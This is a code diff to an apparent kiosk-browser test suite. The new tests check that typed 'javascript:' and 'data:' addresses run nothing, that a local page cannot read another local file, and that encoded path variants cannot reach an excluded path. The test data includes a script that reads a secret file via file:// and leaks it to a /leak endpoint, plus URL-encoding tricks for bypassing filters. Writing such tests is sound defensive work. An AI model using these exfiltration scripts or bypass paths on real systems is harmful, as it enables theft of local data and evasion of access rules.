@@ -30,6 +30,9 @@ constexpr Point kAddressBox{1016, 36};
 const std::string kRedThenGreen =
     "[Tessaro]\nDefaultTime=60\nOnMouseMove=0\n" + Pages({"/red", "/green"});
 
+// A mouse move brings navigation mode, which lasts five minutes of idleness.
+const std::string kNavigable = "[Tessaro]\nDefaultTime=60\nOnMouseMove=1\nScreenSaveTimeOut=300\n";
+
 // Where a row of buttons ends on the right and begins at the top.
 struct RowPlace {
     int right = Xvfb::kWidth;
@@ -79,6 +82,13 @@ class ToolbarTest : public KioskTest {
     std::string Seen(Point at) const {
         return "seen " + ToHex(screen_.Pixel(at.x, at.y)) + " at " + std::to_string(at.x) + "," +
                std::to_string(at.y);
+    }
+
+    // Past the grace after play began, a pointer move brings Tool Nav; false when it never came.
+    bool EnterNavigationMode() {
+        std::this_thread::sleep_for(2500ms);
+        MoveTo({600, 450});
+        return WaitUntil([&] { return RowFaults(9).empty(); }, kPatience);
     }
 
     void EnterAddress(const std::string& address) {
@@ -132,16 +142,13 @@ TEST_F(ToolbarTest, ToolRunStandsTopRightShowsHelpTipsAndNextTurnsThePageAtOnce)
 }
 
 TEST_F(ToolbarTest, NavigationModeFollowsAllowedAddressesAndLinksAndRefusesExcludedOnes) {
-    Start("[Tessaro]\nDefaultTime=60\nOnMouseMove=1\nScreenSaveTimeOut=300\n" + Pages({"/red"}) +
+    Start(kNavigable + Pages({"/red"}) +
           "[Include1]\nURL={server}/\n[Include2]\nURL=http://127.0.0.1\n"
           "[Exclude1]\nURL={server}/blocked\n");
     ASSERT_TRUE(screen_.WaitForColor(kRed.rgb, kStartUp)) << "page 1 never came on show";
-    std::this_thread::sleep_for(2500ms);  // past the grace after play began
-    MoveTo({600, 450});
     // Tool Nav replaces Tool Run: nine buttons with the address box under them; a short
     // address leaves the box's right end clear.
-    ASSERT_TRUE(WaitUntil([&] { return RowFaults(9).empty() && ShowsColor(kAddressBox, kLight); },
-                          kPatience))
+    ASSERT_TRUE(EnterNavigationMode() && ShowsColor(kAddressBox, kLight))
         << "no Tool Nav\n"
         << RowFaults(9) << Seen(kAddressBox);
 
@@ -174,11 +181,9 @@ TEST_F(ToolbarTest, NavigationModeFollowsAllowedAddressesAndLinksAndRefusesExclu
 }
 
 TEST_F(ToolbarTest, WithoutAnIncludeListTypedEnginePagesStayOut) {
-    Start("[Tessaro]\nDefaultTime=60\nOnMouseMove=1\nScreenSaveTimeOut=300\n" + Pages({"/red"}));
+    Start(kNavigable + Pages({"/red"}));
     ASSERT_TRUE(screen_.WaitForColor(kRed.rgb, kStartUp)) << "page 1 never came on show";
-    std::this_thread::sleep_for(2500ms);  // past the grace after play began
-    MoveTo({600, 450});
-    ASSERT_TRUE(WaitUntil([&] { return RowFaults(9).empty(); }, kPatience)) << RowFaults(9);
+    ASSERT_TRUE(EnterNavigationMode()) << RowFaults(9);
 
     EnterAddress("view-source:" + server_.Url("/orange"));
     EXPECT_FALSE(server_.WaitForRequest("/orange", 5s)) << "the page source was shown";
@@ -191,9 +196,7 @@ TEST_F(ToolbarTest, APageDialogOpenInNavigationModeGoesWhenPlayReturns) {
     Kiosk& kiosk = Start("[Tessaro]\nDefaultTime=60\nOnMouseMove=1\nScreenSaveTimeOut=4\n" +
                          Pages({"/alert?color=red"}));
     ASSERT_TRUE(screen_.WaitForColor(kRed.rgb, kStartUp)) << "page 1 never came on show";
-    std::this_thread::sleep_for(2500ms);
-    MoveTo({600, 450});
-    ASSERT_TRUE(WaitUntil([&] { return RowFaults(9).empty(); }, kPatience)) << RowFaults(9);
+    ASSERT_TRUE(EnterNavigationMode()) << RowFaults(9);
     Click();
     // The alert stands in the middle of the show.
     ASSERT_TRUE(screen_.WaitForCentre([](Rgb seen) { return !Near(seen, kRed.rgb); }, kPatience))
@@ -278,6 +281,93 @@ TEST_F(ToolbarTest, UnderAWindowManagerToolRunStaysOverTheShowAndCannotTakeItAwa
     EXPECT_TRUE(screen_.WaitForColor(kGreen.rgb, 15s))
         << "Next did not turn the page: " << ToHex(screen_.Centre());
     EXPECT_TRUE(kiosk.Running());
+}
+
+TEST_F(ToolbarTest, TypedScriptsRunNothingAndScriptedAddressesStayInsideTheIncludeList) {
+    Start(kNavigable + Pages({"/go?color=red&to=blob"}) + "[Include1]\nURL={server}/go\n" +
+          "[Include2]\nURL={server}/jslink\n");
+    ASSERT_TRUE(screen_.WaitForColor(kRed.rgb, kStartUp)) << "page 1 never came on show";
+    ASSERT_TRUE(EnterNavigationMode()) << RowFaults(9);
+
+    EnterAddress("javascript:document.body.style.background='#ff00ff';new Image().src='" +
+                 server_.Url("/leak") + "'");
+    EnterAddress("data:text/html,<body style=background:#ff00ff>");
+    EXPECT_FALSE(server_.WaitForRequest("/leak", 5s)) << "a typed script ran";
+    // The page's own script makes a page of its own and goes there.
+    MoveTo({600, 450});
+    Click();
+    std::this_thread::sleep_for(3s);
+    EXPECT_TRUE(Near(screen_.Centre(), kRed.rgb)) << ToHex(screen_.Centre());
+
+    // The page's own "javascript:" link runs, but cannot take it outside the list.
+    EnterAddress(server_.Url("/jslink?color=yellow&to=/outside/magenta"));
+    ASSERT_TRUE(screen_.WaitForColor(kYellow.rgb, kPatience)) << "the link page did not load";
+    MoveTo({600, 450});
+    Click();
+    EXPECT_FALSE(server_.WaitForRequest("/outside", 5s)) << "a script link went outside";
+    EnterAddress(server_.Url("/go?color=green&to=data:text/html,<b style=color:%23ff00ff>x"));
+    ASSERT_TRUE(screen_.WaitForColor(kGreen.rgb, kPatience)) << "the script page did not load";
+    MoveTo({600, 450});
+    Click();
+    std::this_thread::sleep_for(3s);
+    EXPECT_TRUE(Near(screen_.Centre(), kGreen.rgb)) << ToHex(screen_.Centre());
+}
+
+TEST_F(ToolbarTest, ALocalPageReadsNoOtherLocalFileAndItsScriptsStayInsideTheIncludeList) {
+    const std::string secret = folders_.Write("private/secret.txt", "top secret");
+    // Yellow while it tries to read the file, then magenta when it could, green when not.
+    const std::string page =
+        folders_.Write("local.html",
+                       "<body style=\"margin:0;height:100vh;background:#ffff00\"><script>"
+                       "var read = false, x = new XMLHttpRequest();"
+                       "try { x.open('GET', 'file://" +
+                           secret +
+                           "', false); x.send();"
+                           " read = x.responseText.indexOf('top secret') >= 0; } catch (e) {}"
+                           "document.body.style.background = read ? '#ff00ff' : '#00ff00';"
+                           "if (read) new Image().src = '" +
+                           server_.Url("/leak?") +
+                           "' + x.responseText;"
+                           "addEventListener('click', function () { location.href = '" +
+                           server_.Url("/outside/magenta") + "'; });</script></body>");
+    Start(kNavigable + "[Page1]\nURL=" + page + "\n[Include1]\nURL=file://" + page +
+          "\n[Include2]\nURL={server}/red\n");
+    ASSERT_TRUE(screen_.WaitForCentre(
+        [](Rgb seen) { return Near(seen, kGreen.rgb) || Near(seen, kMagenta.rgb); }, kStartUp))
+        << "the local page never came on show: " << ToHex(screen_.Centre());
+    EXPECT_TRUE(Near(screen_.Centre(), kGreen.rgb)) << "the local page read another file";
+    EXPECT_FALSE(server_.FirstRequest("/leak"));
+
+    ASSERT_TRUE(EnterNavigationMode()) << RowFaults(9);
+    EnterAddress("javascript:x=new XMLHttpRequest();x.open('GET','file://" + secret +
+                 "',false);x.send();document.body.style.background='#ff00ff'");
+    MoveTo({600, 450});
+    Click();
+    EXPECT_FALSE(server_.WaitForRequest("/outside", 5s)) << "the local page's script went outside";
+    EXPECT_TRUE(Near(screen_.Centre(), kGreen.rgb)) << ToHex(screen_.Centre());
+    EnterAddress(server_.Url("/red"));
+    EXPECT_TRUE(screen_.WaitForColor(kRed.rgb, kPatience)) << "the typed address did not load";
+}
+
+TEST_F(ToolbarTest, AnExcludedPathStaysOutHoweverItIsWrittenAndTheBoxShowsThePageOnShow) {
+    Start(kNavigable + Pages({"/red", "/green"}) + "[Exclude1]\nURL={server}/private\n");
+    ASSERT_TRUE(screen_.WaitForColor(kRed.rgb, kStartUp)) << "page 1 never came on show";
+    ASSERT_TRUE(EnterNavigationMode()) << RowFaults(9);
+    // The box holds the page on show, not the one preloaded behind it.
+    MoveTo(kAddressBox);
+    Click();
+    Key("Return");
+    EXPECT_FALSE(screen_.WaitForColor(kGreen.rgb, 5s)) << "the box held the preloaded page";
+
+    // Each is served as /private by common web servers.
+    for (const char* path :
+         {"//private/magenta", "///private/magenta", "/%70rivate/magenta", "/.//private/magenta"}) {
+        EnterAddress(server_.Url(path));
+        std::this_thread::sleep_for(1500ms);
+    }
+    for (const auto& request : server_.Requests())
+        EXPECT_EQ(request.target.find("rivate"), std::string::npos) << request.target;
+    EXPECT_TRUE(Near(screen_.Centre(), kRed.rgb)) << ToHex(screen_.Centre());
 }
 
 }  // namespace
